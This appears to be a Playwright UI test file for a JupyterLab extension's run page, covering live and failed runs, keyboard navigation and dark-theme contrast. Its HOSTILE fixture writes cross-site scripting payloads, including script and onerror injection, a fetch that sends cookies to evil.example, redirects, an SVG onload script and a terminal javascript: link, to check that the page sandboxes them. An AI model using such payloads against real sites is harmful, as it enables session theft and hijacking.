"""The page of a run in JupyterLab: what it shows, what it outlives, and what it does not let in."""

from __future__ import annotations

import re
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, Request, expect

from aml_jupyter import Experiment, Run, ScriptRunConfig, Workspace
from tests.support import finish
from tests.ui.lab import Lab

pytestmark = [pytest.mark.ui, pytest.mark.service("chromium")]

SOON = 30_000
LONG = "a lively run whose name is longer than its tab"
Shot = Callable[[str], None]

LIVE = """\
import pathlib, sys, time
from aml_jupyter import Run
run, gate, step = Run.get_context(), pathlib.Path(sys.argv[1]), 0
while not gate.exists():
    run.log("train/loss", 1 / (1 + step))
    run.log("train/accuracy", step / (1 + step))
    print("step", step, flush=True)
    step, _ = step + 1, time.sleep(0.1)
print("the last word")
"""
FAILS = """\
import json

def load(path):
    with open(path) as file:
        return json.load(file)

print("loading")
load("missing.json")
"""
EVIL = "<img src=x onerror=alert(1)><script>document.title='taken'</script>"
HOSTILE = f"""\
import pathlib, sys
from aml_jupyter import Run
run, out = Run.get_context(), pathlib.Path("outputs")
evil = {EVIL!r}
reach = "document.title='taken';alert(document.cookie);"
reach += "fetch('//evil.example/?'+parent.document.cookie);top.location='//evil.example/'"
page = f"<h1>report</h1>{{evil}}<script>{{reach}}</script><img src='//evil.example/a.png'>"
page += "<form action='//evil.example'><button>press</button></form>"
page += "<meta http-equiv='refresh' content='0;url=//evil.example/'>"
(out / "page.html").write_text(page)
svg = "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='90' onload='alert(2)'>"
svg += f"<script>{{reach}}</script><image href='//evil.example/b.png'/>"
(out / "picture.svg").write_text(svg + "<rect width='90' height='90' fill='teal'/></svg>")
run.log(evil, 1.0)
run.log_table("table " + evil, {{evil: [evil, evil]}})
print(evil)
print("\\x1b]0;taken\\x07\\x1b]8;;javascript:alert(3)\\x07link\\x1b]8;;\\x07", file=sys.stderr)
raise ValueError(evil)
"""


@pytest.fixture
def experiment(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> Experiment:
    """An experiment of the workspace that JupyterLab shows."""
    monkeypatch.setenv("AML_HOME", str(lab.folder / "aml"))
    monkeypatch.chdir(lab.root)
    return Experiment(Workspace.from_config(str(lab.root)), "pages")


def submitted(to: Experiment, lab: Lab, name: str, text: str, *arguments: str, **more: str) -> Run:
    """A run of a script in a folder of its own below the one that is shown."""
    folder = lab.root / name
    folder.mkdir()
    (folder / "train.py").write_text(textwrap.dedent(text))
    config = ScriptRunConfig(str(folder), script="train.py", arguments=list(arguments))
    return to.submit(config, display_name=more.pop("called", name), tags=more)


def opened(page: Page, lab: Lab, name: str) -> Locator:
    """The page of a run, opened from the sidebar."""
    page.goto(f"{lab.url}/lab/workspaces/{re.sub('[^a-z]', '', name.lower())[:20]}?reset")
    page.get_by_role("tab", name=re.compile("^Runs")).click()
    page.get_by_role("treeitem", name=re.compile(re.escape(name))).first.dblclick()
    return panel_of(page, name)


def panel_of(page: Page, name: str) -> Locator:
    return page.get_by_role("tabpanel", name=re.compile(re.escape(name)))


def state_of(shown: Locator) -> Locator:
    return shown.get_by_role("status").first


def test_a_live_run_is_followed_through_a_reload_and_a_restart_of_the_server(
    lab: Lab, page: Page, experiment: Experiment, screenshot: Shot
) -> None:
    gate = lab.folder / "go on"
    run = submitted(experiment, lab, "lively", LIVE, str(gate))
    shown = opened(page, lab, "lively")
    state = shown.get_by_text("Running", exact=True).first
    expect(state).to_be_visible(timeout=SOON)
    for chart in ("train/loss", "train/accuracy"):
        expect(shown.get_by_role("figure", name=chart)).to_be_visible(timeout=SOON)
    log = shown.get_by_role("log", name="Log")
    expect(log).to_contain_text("step 3")
    screenshot("run-page-live")

    # A tab has no room for such a name, which is whole for those who hear it.
    run.display_name = LONG
    tab = page.get_by_role("tab", name=LONG, exact=True)
    expect(tab).to_have_text("a lively run … its tab", timeout=SOON)

    # Not before it is over: a page that is left gives up what it was about to store.
    with page.expect_request_finished(lambda request: is_remembered(request, run, "log")):
        shown.get_by_role("tab", name="Log").click()
    page.reload()
    expect(shown.get_by_role("tab", name="Log")).to_have_attribute(
        *("aria-selected", "true"), timeout=SOON
    )
    expect(log).to_contain_text("step 3")

    lab.stop()
    banner = shown.get_by_text("Reconnecting…")
    expect(banner).to_be_visible(timeout=SOON)
    expect(log).to_contain_text("step 3")
    lab.start()
    expect(banner).to_be_hidden(timeout=SOON)
    gate.touch()
    expect(log).to_contain_text("the last word", timeout=SOON)
    expect(shown.get_by_text("Completed", exact=True).first).to_be_visible()
    assert finish(run)["status"] == "Completed"

    run.delete()
    expect(shown.get_by_text("The run was deleted.")).to_be_hidden()
    page.reload()
    gone = shown.get_by_role("status").filter(has_text=run.id)
    expect(gone.first).to_be_visible(timeout=SOON)
    shown.get_by_role("button", name="Close").click()
    expect(shown).to_have_count(0)


def is_remembered(request: Request, run: Run, tab: str) -> bool:
    """Whether JupyterLab stores the page of a run with that tab."""
    kept = request.post_data or "" if request.method == "PUT" else ""
    return run.id in kept and f'"tab":"{tab}"' in kept


def test_a_failed_run_opens_on_its_error_and_leads_to_the_line_by_the_keyboard_alone(
    lab: Lab, page: Page, experiment: Experiment, screenshot: Shot
) -> None:
    first = submitted(experiment, lab, "fails", FAILS)
    finish(first)
    (lab.root / "fails" / "train.py").write_text(FAILS.replace('"loading"', '"once more"'))
    config = ScriptRunConfig(str(lab.root / "fails"), script="train.py")
    finish(experiment.submit(config, display_name="fails again"))
    shown = opened(page, lab, "fails again")
    expect(shown.get_by_role("tab", name="Error")).to_have_attribute("aria-selected", "true")
    expect(shown.get_by_role("region", name="What went wrong")).to_contain_text("FileNotFoundError")
    tried = shown.get_by_role("region", name="What to try")
    expect(tried).to_contain_text("--data name=./missing.json")
    expect(shown.get_by_role("region", name="The last lines of the log")).to_contain_text(
        "once more"
    )
    where = shown.get_by_role("region", name="Where it failed")
    expect(where.locator("[aria-current]")).to_contain_text("with open(path) as file:")
    screenshot("run-page-error")

    # Along the tabs with the arrows, to what differs from the run before.
    shown.get_by_role("tab", name="Error").focus()
    for _ in range(5):
        page.keyboard.press("ArrowRight")
    expect(shown.get_by_role("tab", name="Code")).to_be_focused()
    expect(shown.get_by_role("region", name="Source")).to_contain_text("def load(path):")
    page.keyboard.press("Tab")
    what = shown.get_by_role("combobox", name="What is shown")
    expect(what).to_be_focused()
    page.keyboard.press("ArrowDown")
    changes = shown.get_by_role("table", name="Changes of train.py")
    expect(changes.get_by_role("row", name="once more")).to_contain_text('print("loading")')
    screenshot("run-page-diff")

    shown.get_by_role("tab", name="Code").focus()
    page.keyboard.press("Home")
    link = where.get_by_role("link", name="train.py, line 4")
    link.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("tab", name="train.py")).to_be_visible(timeout=SOON)
    expect(page.get_by_role("button", name="Ln 4, Col 1")).to_be_visible(timeout=SOON)


def test_a_hostile_run_harms_nothing(lab: Lab, page: Page, experiment: Experiment) -> None:
    run = submitted(experiment, lab, "hostile", HOSTILE, called=f"hostile {EVIL}", **{EVIL: EVIL})
    finish(run)
    reached: list[str] = []
    page.on("dialog", lambda dialog: (reached.append(dialog.message), dialog.dismiss()))
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    shown = opened(page, lab, "hostile")
    expect(shown.get_by_role("region", name="What went wrong")).to_contain_text(EVIL)
    for tab in ("Overview", "Log", "Code", "Facts", "Files"):
        shown.get_by_role("tab", name=tab).click()
    expect(shown.get_by_role("log", name="Log")).to_be_hidden()
    shown.get_by_role("button", name="page.html").click()
    frame = shown.locator("iframe")
    expect(frame).to_have_attribute("sandbox", "")
    expect(frame.content_frame.get_by_role("heading", name="report")).to_be_visible()
    frame.content_frame.get_by_role("button", name="press").click()
    shown.get_by_role("button", name="picture.svg").click()
    picture = shown.get_by_role("img", name="outputs/picture.svg")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 90
    # A stranger's page that is opened by itself has no more power there.
    page.goto(shown_address(page, lab, run))
    expect(page.get_by_role("heading", name="report")).to_be_visible()
    assert page.title() != "taken"
    assert page.evaluate("window.origin") == "null"
    assert reached == []
    assert [each.url for each in asked if left(each, lab)] == []


def left(request: Request, lab: Lab) -> bool:
    """Whether it went to somebody else: what a policy refuses is announced as well."""
    own = request.url.startswith((lab.url, "data:", "blob:", "about:"))
    return not own and request.failure != "csp"


def shown_address(page: Page, lab: Lab, run: Run) -> str:
    (place,) = [
        each["key"]
        for each in page.request.get(f"{lab.url}/aml/api/hello").json()["places"]
        if each["project"] == ""
    ]
    return f"{lab.url}/aml/api/file/{place}/{run.id}/outputs/page.html"


def test_every_word_can_be_read_in_the_dark(
    lab: Lab, page: Page, experiment: Experiment, screenshot: Shot
) -> None:
    finish(submitted(experiment, lab, "gloomy", FAILS))
    with lab.theme("JupyterLab Dark"):
        shown = opened(page, lab, "gloomy")
        expect(shown.get_by_role("region", name="What to try")).to_be_visible()
        page.wait_for_function("document.body.dataset.jpThemeLight === 'false'")
        screenshot("run-page-dark")
        faint = shown.evaluate(CONTRAST)
    assert faint == []


CONTRAST = Path(__file__).with_name("contrast.js").read_text("utf-8")
